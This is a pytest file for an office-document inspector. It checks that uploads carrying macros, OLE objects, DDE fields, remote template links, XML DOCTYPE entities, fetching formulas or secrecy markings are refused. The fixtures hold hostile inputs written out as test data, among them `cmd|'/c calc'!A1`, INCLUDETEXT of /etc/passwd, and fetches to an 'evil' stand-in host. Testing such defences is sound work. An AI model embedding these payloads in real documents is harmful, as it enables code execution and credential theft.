"""Office documents are judged by what their parts say, however it is written."""

import html
import re
import zipfile
from io import BytesIO
from typing import Any

import pytest
from docx import Document
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference

from tests.support.circulars import small_document
from tests.support.hostile_files import OLE2, field, open_xml, packed, paragraph, relationship, word, word_part
from tracker.domain.errors import BadInput
from tracker.inspection import refusals
from tracker.inspection.files import inspect_file
from tracker.paper.office_templates import TemplateRefused, fill_template, inspect_template
from tracker.wording.refusals import sentence

_RELS = "word/_rels/settings.xml.rels"
_WEB = "http://example.org/t.dotm"


def _inspect(content: bytes, ending: str = "docx") -> str:
    return inspect_file(BytesIO(content), ending=ending)


def _rels(inner: str) -> str:
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inner}</Relationships>'
    )


_LINK = _rels(relationship("attachedTemplate", _WEB))
_SPELLINGS = {
    "plain": _LINK.encode(),
    "utf-16": _LINK.encode("utf-16"),
    "utf-16 without a mark": ('<?xml version="1.0" encoding="UTF-16"?>' + _LINK).encode("utf-16-le"),
    "utf-8 with a mark": _LINK.encode("utf-8-sig"),
    "single quotes": _LINK.replace('"', "'").encode(),
    "spaces": _LINK.replace('TargetMode="External"', 'TargetMode \n = \t "External"').encode(),
    "character references": _LINK.replace("External", "&#69;xternal").encode(),
    "a prefix": _LINK.replace("<Rel", "<p:Rel").replace("</Rel", "</p:Rel").replace("xmlns=", "xmlns:p=").encode(),
    "no mode": _rels(relationship("attachedTemplate", _WEB, mode="")).encode(),
    "a share": _rels(relationship("attachedTemplate", r"\\host\t.dotm", mode="")).encode(),
}


@pytest.mark.parametrize("spelling", _SPELLINGS)
def test_a_link_to_elsewhere_is_found_however_it_is_written(spelling: str) -> None:
    content = word(paragraph("{{标题}}"), (_RELS, _SPELLINGS[spelling]))
    with pytest.raises(refusals.LinkOutside) as refused:
        _inspect(content)
    assert refused.value.facts["part"] == _RELS
    assert "断开" in sentence(refused.value)
    assert any("外部内容" in fault for fault in inspect_template(content).faults)


@pytest.mark.parametrize(
    ("kind", "target", "in_evidence"),
    [
        ("hyperlink", "https://www.gov.cn/", True),
        ("hyperlink", "mailto:a@example.org", True),
        ("hyperlink", "file:///c:/a.docx", False),
        ("hyperlink", "javascript:alert(1)", False),
        ("image", "https://example.org/a.png", False),
        ("attachedTemplate", "file:///c:/a.dotm", False),
        ("video", "https://example.org/a.mp4", False),
    ],
)
def test_evidence_may_have_links_that_are_clicked_and_templates_none(kind: str, target: str, in_evidence: bool) -> None:
    content = word(paragraph("{{标题}}"), ("word/_rels/document.xml.rels", _rels(relationship(kind, target)).encode()))
    if in_evidence:
        _inspect(content)
    else:
        with pytest.raises(refusals.LinkOutside):
            _inspect(content)
    assert any("外部内容" in fault for fault in inspect_template(content).faults)


def _root_rel(of: str, target: str = "a.xml") -> bytes:
    """Return a document with a relationship of any type."""
    return word("", ("_rels/.rels", _rels(f'<Relationship Id="r1" Type="{of}" Target="{target}"/>').encode()))


_MS = "http://schemas.microsoft.com/office"
_NOT_KNOWN = (
    f"{_MS}/2011/relationships/webextensiontaskpanes",
    f"{_MS}/2011/relationships/webextension",
    f"{_MS}/2006/relationships/ui/extensibility",
    f"{_MS}/2007/relationships/ui/extensibility",
    f"{_MS}/2006/relationships/ui/userCustomization",
    f"{_MS}/2006/relationships/attachedToolbars",
    f"{_MS}/2020/07/relationships/rdRichValueWebImage",
    f"{_MS}/2017/06/relationships/model3d",
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/volatileDependencies",
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/recipientData",
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/slideUpdateUrl",
    "http://example.org/of-tomorrow",
    "",
)


@pytest.mark.parametrize("of", _NOT_KNOWN)
def test_a_part_of_a_kind_that_no_letter_needs_is_refused(of: str) -> None:
    with pytest.raises(refusals.PartNotAllowed) as refused:
        _inspect(_root_rel(of))
    assert "文档的组成" in sentence(refused.value)
    assert inspect_template(_root_rel(of)).faults


@pytest.mark.parametrize(
    "kind",
    [
        "application/vnd.ms-office.webextension+xml",
        "application/vnd.ms-office.webextensiontaskpanes+xml",
        "application/vnd.ms-word.attachedToolbars",
        "text/html",
        "application/x-msdownload",
        "application/javascript",
        "message/rfc822",
    ],
)
def test_a_content_type_that_no_letter_needs_is_refused(kind: str) -> None:
    with pytest.raises(refusals.PartNotAllowed):
        _inspect(open_xml("docx", content_type=kind))


def test_what_wps_adds_passes_where_it_is_xml() -> None:
    wps = "http://www.wps.cn/officeDocument/2020/cellImage"
    _inspect(_root_rel(wps, "xl/cellimages.xml"))
    with pytest.raises(refusals.PartNotAllowed):
        _inspect(_root_rel(wps, "JDEData.bin"))
    _inspect(open_xml("xlsx", content_type="application/vnd.wps-officedocument.cellimage+xml"), "xlsx")
    _inspect(open_xml("xlsx", ("xl/worksheets/s.xml", b'<a><c r="A1"><f>_xlfn.DISPIMG("ID_1",1)</f></c></a>')), "xlsx")


_DOCTYPE = '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
_REFUSED: dict[str, tuple[str, bytes, type[BadInput]]] = {
    "macros by a relationship": (
        "docx",
        word("", ("word/_rels/document.xml.rels", _rels(relationship("vbaProject", "x.dat", mode="")).encode())),
        refusals.MacrosInside,
    ),
    "macros by content type": (
        "docx",
        open_xml("docx", content_type="application/vnd.ms-office.vbaProject"),
        refusals.MacrosInside,
    ),
    "a macro sheet": (
        "xlsx",
        open_xml("xlsx", content_type="application/vnd.ms-excel.macrosheet+xml"),
        refusals.MacrosInside,
    ),
    "a macro's storage": ("docx", word("", ("word/vbaData.dat", OLE2)), refusals.MacrosInside),
    "an OLE object under a harmless name": ("docx", word("", ("word/media/image1.png", OLE2)), refusals.ObjectInside),
    "an OLE object by a relationship": (
        "pptx",
        open_xml("pptx", ("ppt/_rels/a.xml.rels", _rels(relationship("oleObject", "a.dat", mode="")).encode())),
        refusals.ObjectInside,
    ),
    "a control": (
        "docx",
        word("", ("word/_rels/document.xml.rels", _rels(relationship("control", "a.xml", mode="")).encode())),
        refusals.ObjectInside,
    ),
    "a page of another format": (
        "docx",
        word("", ("word/_rels/document.xml.rels", _rels(relationship("aFChunk", "a.html", mode="")).encode())),
        refusals.ObjectInside,
    ),
    "an embedded document": ("docx", word("", ("word/embeddings/a.docx", word(""))), refusals.ObjectInside),
    "a link of a workbook": (
        "xlsx",
        open_xml("xlsx", ("xl/_rels/w.xml.rels", _rels(relationship("externalLink", "e.xml", mode="")).encode())),
        refusals.ObjectInside,
    ),
    "a program": ("docx", word("", ("word/media/image1.png", b"MZ\x90\0")), refusals.ProgramInside),
    "a DOCTYPE": ("docx", word("", ("docProps/app.xml", _DOCTYPE.encode())), refusals.DoctypeInside),
    "a DOCTYPE in UTF-16": (
        "docx",
        word("", ("customXml/item1.xml", _DOCTYPE.encode("utf-16"))),
        refusals.DoctypeInside,
    ),
    "a DOCTYPE under another ending": ("docx", word("", ("word/x.dat", _DOCTYPE.encode())), refusals.DoctypeInside),
    "a slide that starts a program": (
        "pptx",
        open_xml("pptx", ("ppt/slides/s.xml", b'<a action="ppaction://program?x"/>')),
        refusals.MacrosInside,
    ),
    "a pivot table of data elsewhere": (
        "xlsx",
        open_xml("xlsx", ("xl/pivotCache/p.xml", b'<a><cacheSource type="external" connectionId="1"/></a>')),
        refusals.ObjectInside,
    ),
    "letters merged with data elsewhere": (
        "docx",
        word("", ("word/settings.xml", b'<s><mailMerge><connectString val="\\\\evil\\a.mdb"/></mailMerge></s>')),
        refusals.ObjectInside,
    ),
    "a linked object": (
        "xlsx",
        open_xml("xlsx", ("xl/worksheets/s.xml", b"<a><oleObject link=\"cmd|'/c calc'!A1\"/></a>")),
        refusals.ObjectInside,
    ),
    "a linked object of Word": (
        "docx",
        word('<w:object xmlns:o="urn:o"><o:OLEObject Type="Link" ProgID="x" id="r1"/></w:object>'),
        refusals.ObjectInside,
    ),
    "a schema with a programme": (
        "docx",
        word("", ("word/settings.xml", b'<s><schema manifestLocation="http://evil/m.xml"/></s>')),
        refusals.LinkOutside,
    ),
    "a shape that leads to a program": (
        "docx",
        word('<w:pict xmlns:v="urn:v"><v:shape href="a.exe"/></w:pict>'),
        refusals.LinkOutside,
    ),
    "a picture from elsewhere": (
        "docx",
        word('<w:pict xmlns:v="urn:v"><v:imagedata src="//evil/a.png"/></w:pict>'),
        refusals.LinkOutside,
    ),
    "a base of links": (
        "docx",
        word("", ("docProps/app.xml", b"<a><HyperlinkBase>\\\\evil\\x</HyperlinkBase></a>")),
        refusals.LinkOutside,
    ),
    "a link that is computed": (
        "docx",
        word(field("HYPERLINK </w:instrText>" + field('QUOTE "file:///c:/a"') + "<w:instrText>")),
        refusals.LinkOutside,
    ),
    "a slide that opens a file": (
        "pptx",
        open_xml("pptx", ("ppt/slides/s.xml", b'<a action="ppaction://hlinkfile"/>')),
        refusals.MacrosInside,
    ),
    "a link of an OFD": (
        "ofd",
        packed(("OFD.xml", b"<OFD/>"), ("Doc_0/Document.xml", b'<a><URI URI="file:///c:/a.exe"/></a>')),
        refusals.LinkOutside,
    ),
    "a formula that fetches": (
        "xlsx",
        open_xml("xlsx", ("xl/worksheets/s.xml", b'<c><f>1+WEBSERVICE ("http://a")</f></c>')),
        refusals.FieldFetches,
    ),
    "a formula that starts a program": (
        "xlsx",
        open_xml("xlsx", ("xl/worksheets/s.xml", b"<c><f>cmd|'/c calc'!A1</f></c>")),
        refusals.FieldFetches,
    ),
    "XML that is broken": ("docx", word("", ("word/styles.xml", b"<a><b></a>")), refusals.FileDamaged),
}


@pytest.mark.parametrize("name", _REFUSED)
def test_what_a_document_must_not_carry_is_refused(name: str) -> None:
    ending, content, refusal = _REFUSED[name]
    with pytest.raises(refusal) as refused:
        _inspect(content, ending)
    assert sentence(refused.value).endswith("。")


def _within(outer: str, *inner: str) -> str:
    """Return a field in whose instruction others stand, each at the next `|`."""
    begin, rest = field(outer).split(outer)
    pieces = outer.split("|")
    made = pieces[0]
    for each, piece in zip(inner, pieces[1:], strict=True):
        made += f"</w:instrText></w:r>{field(each)[5:-6]}<w:r><w:instrText>{piece}"
    return begin + made + rest


# No name is computed, in whole or in part, and what computes a piece is known.
_COMPUTED_FIELDS = (
    ("| Excel a b", "QUOTE 68 68 69"),
    ("  | Excel a b", "QUOTE DDE"),
    ("D| Excel a b", 'IF 1=1 "DE" ""'),
    ("DD| Excel", "QUOTE E"),
    ("||", "QUOTE LI", "QUOTE NK"),
    ('IF 1=1 "|" ""', "SOMETHING a"),
    ('QUOTE "|"', "DDEAUTO a"),
)


def test_fields_that_compute_pieces_of_others_every_day_pass() -> None:
    for outer, inner in (
        ('IF | = "男" "先生" "女士"', "MERGEFIELD 性别"),
        ("=|+1", "PAGE"),
        ('IF | > 1 "共|页"', "NUMPAGES"),
        ('QUOTE "第|页"', "PAGE"),
    ):
        _inspect(word(_within(outer, *[inner] * outer.count("|"))))


@pytest.mark.parametrize("part", ["word/document.xml", "word/header1.xml", "word/footer2.xml", "word/footnotes.xml"])
@pytest.mark.parametrize(
    "body",
    [
        field(' INCLUDETEXT "/etc/passwd" '),
        field("include", "Picture", ' "http://example.org/a.png"'),
        field("  dde", "auto excel a b"),
        field("DDE\\* excel"),
        '<w:p><w:fldSimple w:instr=" link Excel.Sheet a"/></w:p>',
        field('IF 1=1 "') + field("LINK Excel"),
        *(_within(outer, *inner) for outer, *inner in _COMPUTED_FIELDS),
        field("").replace("<w:instrText></w:instrText>", "<w:t>DDE excel a b</w:t>"),
    ],
)
def test_a_field_that_fetches_is_refused_in_every_part(part: str, body: str) -> None:
    content = open_xml("docx", (part, word_part(body)))
    with pytest.raises(refusals.FieldFetches) as refused:
        _inspect(content)
    assert refused.value.facts["part"] == part
    assert any("域" in fault for fault in inspect_template(content).faults)


def test_the_base_of_links_is_refused_in_templates() -> None:
    app = b"<Properties><HyperlinkBase>http://example.org/</HyperlinkBase></Properties>"
    assert any("外部内容" in fault for fault in inspect_template(word("", ("docProps/app.xml", app))).faults)


def test_a_template_kept_earlier_is_held_to_the_standard_when_it_is_filled() -> None:
    with pytest.raises(TemplateRefused):
        fill_template(word(paragraph("{{标题}}"), (_RELS, _SPELLINGS["single quotes"])), small_document())


def _symbols(before: str, symbol: str, after: str = "") -> str:
    return paragraph(before).replace("</w:p>", f"<w:r>{symbol}</w:r><w:r><w:t>{after}</w:t></w:r></w:p>")


def _ruby(sign: str) -> str:
    """Return a sign with its reading above, as 拼音指南 writes it."""
    base = f"<w:rubyBase><w:r><w:t>{sign}</w:t></w:r></w:rubyBase>"
    return f"<w:r><w:ruby><w:rt><w:r><w:t>ji</w:t></w:r></w:rt>{base}</w:ruby></w:r>"


_MARKED = {
    "docx": word(paragraph("秘", "密", "★", "10年")),
    "docx's ruby": word(f"<w:p>{_ruby('机')}{_ruby('密')}<w:r><w:t>★1年</w:t></w:r></w:p>"),
    "docx's words in a ruby": word("<w:p><w:ruby><w:rt><w:t>机密★1年</w:t></w:rt></w:ruby></w:p>"),
    "docx's two paragraphs": word(paragraph("正文") + paragraph("机") + paragraph("密") + paragraph("会议纪要")),
    "xlsx's reading": open_xml(
        "xlsx", ("xl/sharedStrings.xml", "<si><r><t>机</t></r><rPh><t>ji</t></rPh><r><t>密★</t></r></si>".encode())
    ),
    "xlsx's formula": open_xml("xlsx", ("xl/worksheets/s.xml", '<c r="A1"><f>"机"&amp;"密★1年"</f></c>'.encode())),
    "xlsx's star by its number": open_xml(
        "xlsx", ("xl/worksheets/s.xml", '<c r="A1"><f>"机密"&amp;UNICHAR( 9733 )&amp;"1年"</f></c>'.encode())
    ),
    "docx's head": word("", ("word/header3.xml", word_part(paragraph("机密")))),
    "docx's watermark": word('<w:p><v:textpath xmlns:v="urn:v" string="绝密"/></w:p>'),
    "docx's property": word("", ("docProps/core.xml", "<a><title>机密★1年</title></a>".encode())),
    "docx in UTF-16": word("", ("word/footnotes.xml", word_part(paragraph("密级：秘密")).decode().encode("utf-16"))),
    "docx's alternative text": word('<w:drawing><w:docPr id="1" name="图片 1" descr="机密★1年"/></w:drawing>'),
    "docx's title of a picture": word('<w:drawing><w:docPr id="1" name="图片 1" title="机密"/></w:drawing>'),
    "docx's alternative text of VML": word('<w:pict><v:shape xmlns:v="urn:v" alt="密级：秘密"/></w:pict>'),
    "docx's caption of a table": word('<w:tblPr><w:tblCaption w:val="机密"/></w:tblPr>'),
    "docx's numbers": word("", ("word/numbering.xml", word_part('<w:lvlText w:val="机密★%1"/>'))),
    "docx's star in any attribute": word('<w:bookmarkStart w:name="秘密★10年"/>'),
    "docx's symbol": word(_symbols("机密", '<w:sym w:font="Wingdings" w:char="F0AB"/>', "1年 方案")),
    "docx's symbol without the private area": word(_symbols("机密", '<w:sym w:font="Wingdings" w:char="00AB"/>')),
    "docx's letter of a symbol font": word(
        _symbols("关于方案 机密", '<w:rPr><w:rFonts w:ascii="Wingdings"/></w:rPr><w:t>\u00ab</w:t>', "1年")
    ),
    "xlsx's alternative text": open_xml("xlsx", ("xl/drawings/d.xml", '<a><cNvPr descr="机密★"/></a>'.encode())),
    "xlsx's prompt": open_xml("xlsx", ("xl/worksheets/s.xml", '<a><dataValidation prompt="绝密"/></a>'.encode())),
    "pptx's alternative text": open_xml("pptx", ("ppt/slides/s.xml", '<a><cNvPr title="秘密"/></a>'.encode())),
    "xlsx's shared string": open_xml(
        "xlsx", ("xl/sharedStrings.xml", "<sst><si><r><t>机</t></r><r><t>密</t></r></si></sst>".encode())
    ),
    "xlsx's inline string": open_xml("xlsx", ("xl/worksheets/s.xml", "<c><is><t>机密★</t></is></c>".encode())),
    "xlsx's sheet": open_xml("xlsx", ("xl/workbook.xml", '<sheets><sheet name="绝密"/></sheets>'.encode())),
    "xlsx's head": open_xml(
        "xlsx", ("xl/worksheets/s.xml", '<oddHeader>&amp;L&amp;"宋体,常规"&amp;12机密&amp;R第1页</oddHeader>'.encode())
    ),
    "pptx": open_xml(
        "pptx", ("ppt/slides/s.xml", "<s><p><r><t>机密</t></r></p><p><r><t>方案</t></r></p></s>".encode())
    ),
    "ofd": packed(
        ("OFD.xml", b"<OFD/>"),
        ("Doc_0/Pages/Page_0/Content.xml", "<P><TextObject><TextCode>秘密★</TextCode></TextObject></P>".encode()),
    ),
}


@pytest.mark.parametrize("where", _MARKED)
def test_a_marking_is_found_wherever_a_document_has_text(where: str) -> None:
    with pytest.raises(refusals.SecrecyMarked) as refused:
        _inspect(_MARKED[where], where.partition("'")[0].partition(" ")[0])
    assert "涉密不上网" in sentence(refused.value)
    assert not re.search("[A-Za-z]", sentence(refused.value).partition("）")[0].partition("单元格")[0])
    with pytest.raises(refusals.SecrecyMarked):
        _inspect(packed((f"附件.{where.partition(chr(39))[0].partition(' ')[0]}", _MARKED[where])), "zip")


def test_what_offices_write_every_day_passes() -> None:
    document = Document()
    document.add_paragraph("做好机密文件管理工作，严守国家秘密。")
    document.add_paragraph("密级：").add_run("绝密□机密□")
    document.add_table(1, 1).cell(0, 0).text = html.unescape("内部&amp;")
    document.sections[0].header.paragraphs[0].text = "内部资料"
    saved = BytesIO()
    document.save(saved)
    _inspect(saved.getvalue())
    box = '<w:sym w:font="Wingdings" w:char="F0A8"/>'
    _inspect(word(_symbols("密级：绝密", box, "机密") + _symbols("机密", box, " 秘密") + _symbols("做好保密工作", box)))
    _inspect(word('<w:dropDownList><w:listItem w:displayText="机密" w:value="机密"/></w:dropDownList>'))
    book, kept = Workbook(), BytesIO()
    sheet: Any = book.active
    sheet.append(["一", 1])
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1))
    sheet.add_chart(chart)
    book.save(kept)
    _inspect(kept.getvalue(), "xlsx")
    with_chart = word("", ("word/embeddings/Microsoft_Excel_Sheet1.xlsx", kept.getvalue()))
    _inspect(with_chart)
    assert zipfile.is_zipfile(BytesIO(with_chart))


def test_links_of_every_day_pass() -> None:
    contents = field('TOC \\o "1-3" \\h ').replace(
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + field('HYPERLINK \\l "_Toc1" \\h')
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    )
    shape = '<w:pict xmlns:v="urn:v"><v:shape href="https://www.gov.cn/"><v:imagedata src=""/></v:shape></w:pict>'
    link = '<w:hyperlink w:anchor="_Toc1"/><w:hyperlink r:id="r1" xmlns:r="urn:r" w:docLocation="//a"/>'
    _inspect(word(contents + shape + link))
    _inspect(word(field('HYPERLINK "http://a/b" \\l "//c" \\t "_blank" \\* MERGEFORMAT')))
    _inspect(word(field("HYPERLINK mailto:a@b.cn")))


def test_the_workbook_behind_a_chart_is_examined_too() -> None:
    book = open_xml("xlsx", ("xl/sharedStrings.xml", "<sst><si><t>机密</t></si></sst>".encode()))
    with pytest.raises(refusals.SecrecyMarked):
        _inspect(word("", ("word/embeddings/Sheet1.xlsx", book)))
